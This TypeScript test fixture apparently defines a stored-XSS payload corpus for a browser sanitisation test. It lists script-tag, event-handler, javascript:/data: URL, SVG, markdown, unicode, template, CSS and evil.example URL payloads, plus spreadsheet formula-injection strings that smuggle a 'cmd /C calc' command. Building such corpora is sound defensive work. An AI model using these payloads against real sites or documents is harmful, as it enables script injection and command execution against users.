/**
 * Stored-XSS corpus (quality bar S5): strings a hostile customer could put in a post, a display name, a handle or
 * a profile link, and a careless agent in a note. Every payload, if the browser ever ran it, would leave a trace
 * the browser test watches: a dialog (`alert`, `confirm`, `prompt`, `print`), the global marker `window.__xss`, a
 * request to `/xss-probe`, or — for inline code the CSP would block — a `securitypolicyviolation` event.
 *
 * Constraints of the doors they go through: at most 256 characters (a handle's limit), no U+0000 and no lone
 * surrogates (refused by ingest, see docs/ingest-formats.md), no carriage return (notes turn CRLF into LF).
 */
export type XssFamily =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'markdown'
  | 'unicode'
  | 'template'
  | 'css'
  | 'http-url'
  | 'formula';

export interface XssPayload {
  id: number;
  family: XssFamily;
  payload: string;
}

const FAMILIES: Record<XssFamily, string[]> = {
  script: [
    '<script>alert(1)</script>',
    '<script>window.__xss=1</script>',
    '<SCRIPT>print()</SCRIPT>',
    '<ScRiPt>confirm(1)</sCrIpT>',
    '<script src="/xss-probe.js"></script>',
    '<script src=//xss-probe.example/x.js></script>',
    '"><script>alert(1)</script>',
    "'><script>window.__xss=1</script>",
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</style><script>prompt(1)</script>',
    '<script>/*</script><script>*/alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<script\x20type="text/javascript">window.__xss=1</script>',
    '<script type=module>import("/xss-probe.js")</script>',
    '<noscript><p title="</noscript><img src=/xss-probe onerror=alert(1)>">',
    '<script>eval(atob("d2luZG93Ll9feHNzPTE="))</script>',
  ],
  'event-handler': [
    '<img src=x onerror=alert(1)>',
    '<img src="/xss-probe.png" onerror="window.__xss=1">',
    '<IMG SRC=x OnErRoR=print()>',
    '<img src=x onerror=alert`1`>',
    '<img/src=x/onerror=window.__xss=1>',
    '<body onload=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=window.__xss=1>',
    '<textarea autofocus onfocus=confirm(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<audio src=x onerror=window.__xss=1>',
    '<iframe onload=alert(1)>',
    '<marquee onstart=alert(1)>xss</marquee>',
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">hover</div>',
    '<a onclick=alert(1)>click me</a>',
    '<form><button formaction=javascript:alert(1)>go</button></form>',
    '<object data=x onerror=alert(1)>',
    '<image src=x onerror=prompt(1)>',
    '<style onload=alert(1)></style>',
    '<link rel=stylesheet href=x onerror=window.__xss=1>',
    '<x contenteditable onblur=alert(1)>lose focus</x>',
    '" onmouseover="alert(1)" x="',
    "' onfocus='window.__xss=1' autofocus='",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<img src=x onerror=\\u0061lert(1)>',
    '<input onpointerenter=alert(1) style=display:block>',
    '<table background=x onerror=alert(1)>',
  ],
  'javascript-url': [
    'javascript:alert(1)',
    'JaVaScRiPt:window.__xss=1',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
    'javascript://%0aalert(1)',
    'javascript:void(window.__xss=1)',
    '<a href="javascript:alert(1)">profile</a>',
    '<a href="  javascript:print()">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<embed src="javascript:alert(1)">',
    'vbscript:msgbox(1)',
    '\u0001javascript:alert(1)',
  ],
  'data-url': [
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<img src=x onerror=window.__xss=1>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/javascript,alert(1)',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<script src="data:text/javascript,window.__xss=1"></script>',
  ],
  svg: [
    '<svg onload=alert(1)>',
    '<svg/onload=window.__xss=1>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=onmouseover to=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><style><img src=x onerror=window.__xss=1></style></svg>',
    '<svg><discard onbegin=alert(1)>',
  ],
  markdown: [
    '[click](javascript:alert(1))',
    '[click](JAVASCRIPT:window.__xss=1)',
    '[a](data:text/html,<script>alert(1)</script>)',
    '![img](x" onerror="alert(1))',
    '![img](javascript:alert(1))',
    '<javascript:alert(1)>',
    '[ref]: javascript:alert(1)\n[click][ref]',
    '**bold** <img src=x onerror=alert(1)>',
    '`<script>alert(1)</script>`',
    '```html\n<script>window.__xss=1</script>\n```',
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[<img src=x onerror=alert(1)>](https://ok.example)',
    '> quote <svg onload=alert(1)>',
    '<details><summary>x</summary><img src=x onerror=alert(1)></details>',
  ],
  unicode: [
    '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
    '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    'java\u200Bscript:alert(1)',
    'java\u00ADscript:alert(1)',
    '\u202E>tpircs/<)1(trela>tpircs<',
    '<scr\u200Dipt>alert(1)</scr\u200Dipt>',
    '<\u0338script>alert(1)</script>',
    '\uFE64script\uFE65alert(1)\uFE64/script\uFE65',
    '<img src=x onerror=\u0430lert(1)>',
    'line\u2028break<script>alert(1)</script>\u2029end',
    '\u{1D4B3}\u{1D4C8}\u{1D4C8} <img src=x onerror=alert(1)> \u{1F600}',
    'e\u0301\u0301\u0301\u0301 <svg onload=alert(1)> Z\u0336\u0337',
    '\uFEFF<script>alert(1)</script>',
    '\u2039script\u203Aalert(1)\u2039/script\u203A',
  ],
  template: [
    "{{constructor.constructor('alert(1)')()}}",
    '${alert(1)}',
    '<%= alert(1) %>',
    "{{$on.constructor('window.__xss=1')()}}",
    '#{alert(1)}',
    '{{__proto__}}{{constructor}}',
    '<div v-html="\'<img src=x onerror=alert(1)>\'"></div>',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  ],
  css: [
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>*{background:url("/xss-probe.css")}</style>',
    '<link rel=stylesheet href="/xss-probe.css">',
    '<div style="width:expression(alert(1))">ie</div>',
  ],
  'http-url': [
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/'onmouseover='alert(1)",
    'http://evil.example/#<img src=x onerror=alert(1)>',
    'https://evil.example/?q=<svg/onload=window.__xss=1>',
    'https://javascript:alert(1)@evil.example/',
    'https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
    'http://evil.example/path"onclick="alert(1)',
    'https://evil.example/\u202Egpj.exe',
  ],
  formula: [
    '=HYPERLINK("https://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+1',
    '\t=1+1',
  ],
};

export const XSS_CORPUS: readonly XssPayload[] = Object.entries(FAMILIES)
  .flatMap(([family, payloads]) => payloads.map((payload) => ({ family: family as XssFamily, payload })))
  .map((p, id) => ({ id, ...p }));

/** The count of payloads per family (for the test's report). */
export function familyCounts(): Record<XssFamily, number> {
  return Object.fromEntries(Object.entries(FAMILIES).map(([f, list]) => [f, list.length])) as Record<XssFamily, number>;
}
